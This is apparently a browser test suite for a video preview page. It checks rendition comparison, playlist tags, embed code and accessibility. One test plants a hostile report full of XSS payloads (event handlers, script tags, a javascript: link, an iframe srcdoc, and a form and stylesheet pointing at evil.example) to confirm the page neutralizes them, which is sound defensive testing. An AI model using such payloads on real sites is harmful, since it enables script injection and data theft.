// What stands below the player on the page of `preview`: two renditions compared, thumbnails, playlists, code to embed, and the report.
import { cpSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { numberOf } from './card.js';
import { axe, openPage, overflow, ready, startPreview, until } from './preview.js';

const open = (page, id) => page.click(`#${id} > summary`);

/** Waits until both sides stand at a frame, counted from 0. */
async function standsAt(page, frame) {
  const stands = (due) => /^Frame/.test(document.getElementById('compare-told').textContent) && document.getElementById('compare').dataset.frame === String(due);
  await until(page, `both sides to stand at frame ${frame}`, stands, frame);
}

const lumasOfSide = (page, id) =>
  page.$eval(id, (video) => (video.videoWidth ? window.lumasOf(video, video.videoWidth, video.videoHeight) : []));

/** Every rendition beside the source: the same frame, in the middle, after steps and near the end. */
async function compare({ page, problems }, { rate, frames, cards }) {
  const wrong = [];
  await ready(page);
  await open(page, 'compare');
  const options = await page.$$eval('#choice-b option', (all) => all.map(({ value }) => value));
  await page.selectOption('#choice-a', 'source');
  for (const [turn, value] of options.slice(1).entries()) {
    await page.selectOption('#choice-b', value);
    for (const frame of [Math.floor(frames / 2) + turn, frames - 2]) {
      await page.$eval('#video', (video, to) => (video.currentTime = to), (frame + 0.5) / rate);
      await standsAt(page, frame);
      await page.keyboard.press('.');
      await standsAt(page, frame + 1);
      await page.click('#earlier-frame');
      await standsAt(page, frame);
      const [left, right, player] = await Promise.all(['#compare-a', '#compare-b', '#video'].map((id) => lumasOfSide(page, id)));
      const shown = [left, right, player].map((lumas) => numberOf(Uint8Array.from(lumas)).card);
      if (cards && shown.some((card) => card !== frame)) wrong.push(`at frame ${frame} source, rendition and player show ${shown}`);
      const off = left.reduce((sum, luma, i) => sum + Math.abs(luma - right[i]), 0) / left.length;
      if (!(off < 8)) wrong.push(`at frame ${frame} both sides differ by ${off} on average`);
    }
  }
  // One pixel of the larger one is one of the screen.
  await page.selectOption('#compare-zoom', 'full');
  const [width, due] = await page.evaluate(() => [
    document.getElementById('compare-a').getBoundingClientRect().width * window.devicePixelRatio,
    Math.max(...['a', 'b'].map((side) => document.getElementById(`compare-${side}`).videoWidth)),
  ]);
  if (Math.abs(width - due) > 1) wrong.push(`at 100 % a frame of ${due} pixels is ${width} wide`);
  return [...problems, ...wrong];
}

/** Each playlist is there, each of its tags explained, and what was measured holds. */
async function playlists({ page, problems }) {
  await ready(page);
  await open(page, 'playlists');
  await until(page, 'the playlists', () => document.getElementById('playlist').length > 1);
  const wrong = [];
  for (const { value, text } of await page.$$eval('#playlist option', (all) => all.map(({ value: of, textContent }) => ({ value: of, text: textContent })))) {
    await page.selectOption('#playlist', value);
    const body = await (await page.request.get(value)).text();
    const last = body.trimEnd().split('\n').at(-1);
    const isShown = (line) => document.getElementById('playlist-lines').textContent.includes(line) || document.querySelector('#playlist-lines button');
    await until(page, `the lines of ${text}`, isShown, last);
    const found = await page.evaluate(() => ({
      explained: document.querySelectorAll('#playlist-lines .means').length,
      measured: document.querySelectorAll('#playlist-lines .measured').length,
      wrong: [...document.querySelectorAll('#playlist-lines .wrong')].map(({ textContent }) => textContent),
      all: !document.querySelector('#playlist-lines button'),
    }));
    const tags = new Set(body.match(/^#EXT[A-Z0-9-]*/gm));
    if (found.all && found.explained !== tags.size) wrong.push(`${text}: ${found.explained} of ${tags.size} tags are explained`);
    if (/(video|audio)\/[^/]+, media|Multivariant/.test(text) && !/audio-only/.test(text) && found.measured === 0) wrong.push(`${text}: nothing is measured`);
    wrong.push(...found.wrong.map((each) => `${text}: ${each}`));
  }
  return [...problems, ...wrong];
}

/** Everything opened, with what stands in it. */
async function opened({ page, problems }, { name, look, screens, moves }) {
  await ready(page);
  await until(page, 'the report', () => /Versions/.test(document.getElementById('report-body').shadowRoot?.textContent));
  for (const id of ['compare', 'thumbnails', 'playlists', 'embed']) {
    if (await page.isVisible(`#${id}`)) await open(page, id);
  }
  if (moves && (await page.isVisible('#compare'))) await standsAt(page, 0);
  await page.fill('#public-address', "https://media.example.org/it's here/7");
  await page.waitForLoadState('networkidle');
  await page.screenshot({ path: join(screens, `${name}-all-${look}.png`), fullPage: true });
  const code = await page.textContent('#embed-code');
  return [
    ...problems,
    code.includes("const folder = 'https://media.example.org/it%27s%20here/7/';") ? null : `the code has ${/const folder.*/.exec(code)}`,
    ...(await axe(page)),
    await overflow(page),
  ];
}

/** One encoded clip; `withPage` opens its page. */
export async function askInspect(ask, withPage, looks, context) {
  const { presentation, cards, name, screens, moves } = context;
  if (moves && presentation.hasVideo) {
    const rate = presentation.variants[0].frameRate;
    await ask('each rendition is compared with the same frame of the source', () =>
      withPage(looks.desk, (page) => compare(page, { rate, frames: Math.round(presentation.duration * rate), cards })),
    );
  }
  await ask('every tag of every playlist is explained, and what is measured holds', () => withPage(looks.desk, playlists));
  for (const look of ['desk', 'phone-dark']) {
    await ask(`${look}: everything opened: no violation of axe-core, nothing wider than the screen`, () =>
      withPage(looks[look], (page) => opened(page, { name, look, screens, moves })),
    );
  }
}

/** A report that is not the worker's: nothing of it runs, loads or leads anywhere. */
export async function askHostileReport(verdicts, chromium, good) {
  const folder = mkdtempSync(join(tmpdir(), 'preview-'));
  try {
    await verdicts.ask('preview of a hostile report: its text alone is shown', async () => {
      cpSync(good, folder, { recursive: true });
      const report = readdirSync(folder, { recursive: true }).find((path) => path.endsWith('report.html'));
      writeFileSync(
        join(folder, report),
        `<!doctype html><body onload="hit=1"><p onclick="hit=1" style="position: fixed; inset: 0">Versions <img src="x" onerror="hit=1">
         <script>hit=1</script><a href="javascript:hit=1">go</a><form action="https://evil.example/"><input name="secret"></form>
         <svg><script>hit=1</script><use href="#x"></use></svg><iframe srcdoc="<script>parent.hit=1</script>"></iframe></p>
         <template><img src=x onerror="hit=1"></template><link rel="stylesheet" href="https://evil.example/x.css"></body>`,
      );
      const preview = await startPreview(folder);
      const { page, problems, close } = await openPage(chromium, preview.url);
      try {
        await until(page, 'the report', () => /Versions/.test(document.getElementById('report-body').shadowRoot?.textContent));
        const found = await page.evaluate(() => {
          const body = document.getElementById('report-body').shadowRoot.querySelector('.within');
          const all = [...body.querySelectorAll('*')];
          return { hit: window.hit, tags: all.map(({ localName }) => localName), attributes: all.flatMap((each) => each.getAttributeNames()) };
        });
        const alien = found.tags.filter((tag) => !['p', 'svg'].includes(tag));
        return [
          found.hit ? 'a script ran' : null,
          ...alien.map((tag) => `it made ${tag}`),
          ...found.attributes.map((attribute) => `it set ${attribute}`),
          ...problems.filter((problem) => /evil/.test(problem)),
        ];
      } finally {
        await close();
        await preview.stop();
      }
    });
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}
